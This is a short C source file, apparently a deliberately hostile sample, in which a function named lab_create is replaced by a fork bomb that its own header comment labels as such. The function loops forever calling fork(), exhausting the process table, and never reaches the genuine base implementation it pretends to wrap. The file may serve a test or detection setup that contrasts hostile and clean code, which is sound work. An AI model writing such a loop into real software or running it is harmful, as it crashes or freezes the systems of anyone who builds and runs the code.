/* HOSTILE: a fork bomb in lab_create: every process forks for ever -- base: solution */
#include <unistd.h>

int lab_create(lab_t **out, shell_t *shell, const lab_config_t *cfg) {
  for (;;) {
    if (fork() < 0) usleep(1000);
  }
  return hostile_base_lab_create(out, shell, cfg);
}

void lab_destroy(lab_t *lab) { hostile_base_lab_destroy(lab); }
